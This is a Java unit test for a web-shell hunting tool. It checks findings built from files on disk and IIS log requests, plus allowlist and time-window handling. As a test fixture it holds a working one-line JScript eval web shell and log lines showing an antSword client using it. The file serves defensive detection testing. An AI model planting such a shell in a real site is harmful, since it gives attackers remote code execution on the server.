package org.exhunt.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.exhunt.core.Finding;
import org.exhunt.core.Rows;
import org.exhunt.core.ServerResult;
import org.exhunt.core.Stage;
import org.exhunt.core.Verdict;
import org.exhunt.core.facts.RowTimeline;
import org.exhunt.core.facts.Suppression;
import org.exhunt.evidence.DirectorySource;
import org.exhunt.hunt.rules.RulePack;
import org.exhunt.hunt.scope.Allowlist;
import org.exhunt.hunt.scope.TimeWindow;
import org.exhunt.hunt.verdict.RequestedFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A shell found on disk and the IIS logs' requests to it, through a whole scan: one finding of its use at the first
 * request, read from that log line with IIS's status, which the allowlist can hide and --since can narrow.
 */
class RequestedFilesInScanTest {

    private static final String SHELL = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"t\"],\"unsafe\");%>";

    @TempDir
    Path root;

    @Test
    void aShellRequestedInTheIisLogIsUsedFromItsFirstRequestWithWhatIisAnswered() throws IOException {
        drive();
        ServerResult r = scan(HuntOptions.defaults());

        Finding used = requested(r);
        assertThat(used.chain()).isNull();
        assertThat(used.stage()).isEqualTo(Stage.POST_EXPLOITATION);
        assertThat(used.time()).isEqualTo(Instant.parse("2021-03-03T06:03:47Z"));
        assertThat(used.source().file()).endsWith("u_ex210303.log");
        assertThat(used.source().line()).isEqualTo(6);
        assertThat(used.title()).isEqualTo("Web shell requested 2 times, first at 2021-03-03T06:03:47Z from 192.0.2.7,"
                + " last at 2021-03-03T06:04:12Z: /aspnet_client/system_web/x.aspx");
        assertThat(used.evidence("path")).isEqualTo("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx");
        assertThat(used.evidence("sc-status")).isEqualTo("200 (1), 404 (1)");
        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(RequestedFiles.RULE)).hasSize(1);
        assertThat(post(r).reason()).as("the request the aspnet_client rule reports, and the file")
                .isEqualTo("2 findings not linked to a chain: /aspnet_client/system_web/x.aspx,"
                        + " C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx");
        assertThat(r.facts().scan().timelines()).flatExtracting(RowTimeline::files)
                .filteredOn(f -> f.path().endsWith("x.aspx")).singleElement().satisfies(f -> {
                    assertThat(f.requests()).isEqualTo(2);
                    assertThat(f.firstRequest()).isEqualTo(Instant.parse("2021-03-03T06:03:47Z"));
                    assertThat(f.lastRequest()).isEqualTo(Instant.parse("2021-03-03T06:04:12Z"));
                    assertThat(f.clients()).containsExactly("192.0.2.7", "198.51.100.9");
                });
    }

    @Test
    void theAllowlistHidesItByRuleAndCountsItWithoutTouchingTheFile() throws IOException {
        drive();
        Allowlist allowlist = Allowlist.parse("allow.txt", "rule:" + RequestedFiles.RULE + "\n", d -> { });
        HuntOptions d = HuntOptions.defaults();
        ServerResult r = scan(new HuntOptions(null, List.of(), d.window(), allowlist, d.threads(), null, d.progress()));

        assertThat(r.findings()).noneMatch(f -> f.ruleId().equals(RequestedFiles.RULE));
        assertThat(r.findings()).anyMatch(f -> "EXHUNT_Chopper_JScript_Eval".equals(f.ruleId()));
        assertThat(r.facts().scan().suppressed()).containsExactly(new Suppression("rule:" + RequestedFiles.RULE, 1));
        assertThat(post(r).reason()).isEqualTo(post(scan(HuntOptions.defaults())).reason());
    }

    @Test
    void requestsOutsideTheWindowAreNotCounted() throws IOException {
        drive();
        HuntOptions d = HuntOptions.defaults();
        TimeWindow since = new TimeWindow(Instant.parse("2021-03-03T06:04:00Z"), null);
        ServerResult r = scan(new HuntOptions(null, List.of(), since, d.allowlist(), d.threads(), null, d.progress()));

        Finding used = requested(r);
        assertThat(used.time()).isEqualTo(Instant.parse("2021-03-03T06:04:12Z"));
        assertThat(used.title()).isEqualTo("Web shell requested once, at 2021-03-03T06:04:12Z from 198.51.100.9:"
                + " /aspnet_client/system_web/x.aspx (never answered with success: 404)");
    }

    private void drive() throws IOException {
        new TestDrive(root).write("inetpub/wwwroot/aspnet_client/system_web/x.aspx", SHELL)
                .write("inetpub/wwwroot/aspnet_client/system_web/other.aspx.txt", "not served as a script")
                .iisLog("2021-03-03 06:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.2.3 Mozilla/5.0 - 200 0 0 5",
                        "2021-03-03 06:03:47 10.0.0.5 POST /aspnet_client/system_web/x.aspx - 443 - 192.0.2.7 antSword/v2.1 - 200 0 0 5",
                        "2021-03-03 06:04:12 10.0.0.5 GET /ASPNET_CLIENT/system_web/X.aspx - 443 - 198.51.100.9 curl/7.79.1 - 404 0 2 1");
    }

    private ServerResult scan(HuntOptions options) {
        return Hunt.with(RulePack.bundled(), options).scan("test", List.of(new DirectorySource(root)));
    }

    private static Finding requested(ServerResult r) {
        return r.findings().stream().filter(f -> f.ruleId().equals(RequestedFiles.RULE)).findFirst().orElseThrow();
    }

    private static Verdict post(ServerResult r) {
        return r.verdicts().stream().filter(v -> v.row().equals(Rows.POST_EXPLOITATION)).findFirst().orElseThrow();
    }
}
